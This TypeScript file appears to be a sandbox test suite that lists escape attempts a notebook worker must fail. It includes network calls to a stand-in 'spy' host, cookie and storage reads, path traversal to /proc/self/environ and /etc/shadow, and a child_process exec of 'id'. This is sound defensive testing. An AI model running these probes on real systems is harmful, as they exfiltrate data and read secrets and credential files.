import { tries, type Attack } from '../attack.ts';

/** Attacks that want out: to the network, to what the browser keeps, to the page. */
export const reach: readonly Attack[] = [
  {
    name: 'the network by fetch, of this realm or another',
    ends: 'over',
    program: tries({
      fetch: '(await fetch(spy)).status',
      site: '(await fetch(site)).status',
      native:
        '(await Reflect.apply(Object.getPrototypeOf(scope).fetch ?? scope.WorkerGlobalScope.prototype.fetch, scope, [spy])).status',
      request: '(await fetch(new Request(spy, { mode: "no-cors" }))).status',
    }),
  },
  {
    name: 'the network by XMLHttpRequest',
    ends: 'over',
    program: tries({
      xhr: '{ const x = new scope.XMLHttpRequest(); x.open("GET", spy, false); x.send(); return x.status; }'
        .replace(/^\{/, '(() => {')
        .replace(/\}$/, '})()'),
    }),
  },
  {
    name: 'the network by WebSocket and WebTransport',
    ends: 'over',
    program: tries({
      socket:
        'new Promise((resolve, reject) => { const s = new WebSocket(spy.replace("http", "ws")); s.onopen = () => resolve("open"); s.onerror = reject; })',
      transport:
        '(() => { const t = new scope.WebTransport(spy.replace("http:", "https:")); return t.ready.then(() => "ready"); })()',
    }),
  },
  {
    name: 'the network by EventSource and WebRTC',
    ends: 'over',
    program: tries({
      events:
        'new Promise((resolve, reject) => { const s = new scope.EventSource(spy); s.onopen = () => resolve("open"); s.onerror = reject; })',
      rtc: '(() => { const c = new scope.RTCPeerConnection({ iceServers: [{ urls: "stun:" + spy.slice(7) }] }); c.createDataChannel("x"); return c.createOffer(); })()',
    }),
  },
  {
    name: 'scripts of another origin and of ours by import, and what a script of data: reaches',
    ends: 'over',
    program: tries({
      spy: 'scope.eval("import(" + JSON.stringify(spy + "/x.js") + ")").then(() => "loaded")',
      site: 'scope.eval("import(" + JSON.stringify(site + "page.js") + ")").then(() => "loaded")',
      data: 'scope.eval("import(\\"data:text/javascript,await fetch(\'" + spy + "\')\\")").then(() => "fetched")',
      importScripts: '(scope.importScripts(spy + "/x.js"), "loaded")',
    }),
  },
  {
    name: 'the network by way of Node: http, net, dns',
    ends: 'over',
    program: `import http from 'node:http'; import net from 'node:net';\n${tries({
      http: 'new Promise((resolve, reject) => http.get(spy, (res) => resolve(res.statusCode)).on("error", reject))',
      net: 'new Promise((resolve, reject) => net.connect(Number(new URL(spy).port), "127.0.0.1", () => resolve("connected")).on("error", reject))',
      name: 'new Promise((resolve, reject) => http.get("http://example.com/", (res) => resolve(res.statusCode)).on("error", reject))',
    })}`,
  },
  {
    name: 'another worker from a blob',
    ends: 'over',
    program: tries({
      worker: '(() => { new scope.Worker(URL.createObjectURL(new Blob(["for(;;);"]))); return "made"; })()',
      shared: '(() => { new scope.SharedWorker(URL.createObjectURL(new Blob([""]))); return "made"; })()',
    }),
  },
  {
    name: 'cookies',
    ends: 'over',
    program: tries({
      document: 'scope.document.cookie',
      store: '(await scope.cookieStore.getAll()).length',
      set: '(await scope.cookieStore.set("stolen", "1"), "set")',
    }),
  },
  {
    name: 'localStorage',
    ends: 'over',
    program: tries({ local: 'scope.localStorage.length', session: 'scope.sessionStorage.length' }),
  },
  {
    name: 'IndexedDB',
    ends: 'over',
    program: tries({
      open: 'new Promise((resolve, reject) => { const o = scope.indexedDB.open("x"); o.onsuccess = () => resolve("open"); o.onerror = reject; })',
      factory: '(await Object.getPrototypeOf(scope).indexedDB.databases()).length',
    }),
  },
  {
    name: 'caches and the private file system',
    ends: 'over',
    program: tries({
      caches: '(await scope.caches.keys(), "keys")',
      prototype: '(await new scope.CacheStorage().keys(), "keys")',
      opfs: '(await scope.navigator.storage.getDirectory(), "folder")',
    }),
  },
  {
    name: 'service workers',
    ends: 'over',
    program: tries({ register: '(await scope.navigator.serviceWorker.register(site + "page.js"), "registered")' }),
  },
  {
    name: "the page's window",
    ends: 'over',
    program: tries({
      parent: 'scope.parent',
      top: 'scope.top',
      opener: 'scope.opener',
      window: 'scope.window',
      frames: 'scope.frames',
      post: '(scope.postMessage({ type: "end", worker: 1 }), "posted")',
      clients: 'scope.clients',
    }),
  },
  {
    name: 'a channel to the page by its name',
    ends: 'over',
    program: tries({ channel: '(() => { const c = new BroadcastChannel("notebook"); c.postMessage("stolen"); })()' }),
  },
  {
    name: "files outside the example's own",
    ends: 'over',
    program: `import fs from 'node:fs';\n${tries({
      up: 'fs.readFileSync("../../../../../../proc/self/environ", "utf8")',
      url: 'fs.readFileSync(new URL("file:///etc/shadow"), "utf8")',
      home: 'fs.readdirSync("/home").length',
    })}`,
  },
  {
    name: 'another process, a virtual machine',
    ends: 'over',
    program: `import child from 'node:child_process'; import vm from 'node:vm';\n${tries({
      exec: 'child.execSync("id")',
      vm: 'vm.runInNewContext("1")',
    })}`,
  },
];
